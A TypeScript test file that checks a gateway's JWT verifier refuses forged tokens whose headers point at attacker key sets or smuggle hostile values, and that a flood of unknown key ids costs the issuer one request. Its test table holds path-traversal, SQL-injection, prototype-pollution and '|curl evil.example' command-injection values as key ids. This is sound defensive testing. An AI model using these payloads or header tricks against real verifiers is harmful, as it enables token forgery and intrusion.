/**
 * The key id, and the addresses of keys that a header may carry (`jku`, `x5u`), are the attacker's words. Verifiers
 * have read files, queried databases and fetched URLs named there; and one that fetches the key set for every unknown
 * id can be made to flood its issuer. Precedent: Envoy CVE-2025-64527.
 */
import t from 'tap'
import type { JwtKeys } from '#contract/internal.ts'
import { createSigner, startIssuer } from '../gateway/authn/jwt-issuer.ts'
import { refused, startForeignGateway, undecided } from './foreign-gateway.ts'

const now = Math.floor(Date.now() / 1_000)
/** Older than any copy of the set: such a key would have been in it. */
const claims = { id: 'root', iat: now - 3_600, exp: now + 3_600 }

t.test('no key id leads anywhere but into the app’s own set', async (t) => {
  const own = await createSigner('own')
  const issuer = await startIssuer(t, own.jwk)
  const jwt: JwtKeys = { jwksUrl: `${issuer.url}/jwks`, algorithms: ['ES256'] }
  const gateway = await startForeignGateway(t, { jwt })
  t.strictSame(await gateway.present(await own.sign(claims)), { status: 200, userId: 'root' }, 'the control')

  const evil = await createSigner('evil')
  const evilIssuer = await startIssuer(t, evil.jwk, { ...evil.jwk, kid: 'own' })
  const jku = evilIssuer.url
  const headers: Record<string, object> = {
    'a path': { kid: '../../../../dev/null' },
    'an absolute path': { kid: '/proc/self/environ' },
    'a URL': { kid: `${jku}/jwks` },
    SQL: { kid: "x' UNION SELECT 'key' --" },
    'a command': { kid: '|curl evil.example' },
    'a property of every object': { kid: '__proto__' },
    another: { kid: 'constructor' },
    nothing: { kid: '' },
    'a number': { kid: 7 },
    'an object': { kid: { own: true } },
    'a list': { kid: ['own'] },
    'a known one, and where to fetch it': { kid: 'own', jku },
    'where to fetch a certificate': { kid: 'own', x5u: jku },
    'the key itself': { kid: 'own', jwk: evil.jwk },
    'a certificate': { kid: 'own', x5c: ['MIIB'] },
  }
  for (const [what, header] of Object.entries(headers))
    t.strictSame(await gateway.present(await evil.sign(claims, header)), refused, what)
  t.equal(evilIssuer.requests.length, 0, 'nothing was fetched from where the attacker said')
  t.ok(issuer.requests.every(({ url }) => url === '/jwks'))
  t.equal(gateway.upstream.requests.length, 1, 'the core received the control alone')
})

t.test('a flood of unknown key ids costs the issuer one request, and no user a sign-in', async (t) => {
  const own = await createSigner('own')
  const issuer = await startIssuer(t, own.jwk)
  const gateway = await startForeignGateway(t, { jwt: { jwksUrl: issuer.url, algorithms: ['ES256'] } })
  const evil = await createSigner('evil')
  const flood = await Promise.all(
    Array.from({ length: 200 }, (_, i) => evil.sign({ ...claims, n: i }, { kid: `kid-${i}` })),
  )
  const statuses = await Promise.all(flood.map(async (token) => (await gateway.send(token)).status))
  t.ok(statuses.every((status) => status === 401 || status === 503))
  t.equal(issuer.requests.length, 1)
  t.equal(gateway.upstream.requests.length, 0)
  t.strictSame(await gateway.present(await own.sign(claims)), { status: 200, userId: 'root' })

  const next = await createSigner('next')
  issuer.publish(own.jwk, next.jwk)
  const fresh = await next.sign({ id: 'ada', iat: now + 60, exp: now + 3_600 })
  t.strictSame(await gateway.present(fresh), undecided, 'a key of this moment is not called bad')
})
